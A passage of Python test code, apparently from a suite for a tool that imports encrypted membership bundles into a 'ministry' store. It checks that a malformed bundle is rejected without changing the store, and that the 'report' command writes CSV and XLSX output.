        result = import_bundle(ministry, town.encrypt(members), "lists.kisi")
        assert (result.outcome, result.reason_code) == (OUTCOME_REJECTED, MALFORMED)
        assert ministry.store.snapshot() == before
    out = tmp_path / "report"
    argv = ["ministry", "report", "--dir", str(mine.ministry_dir), "--csv", f"{out}.csv",
            "--xlsx", f"{out}.xlsx"]  # fmt: skip
    assert cli(argv) == 0
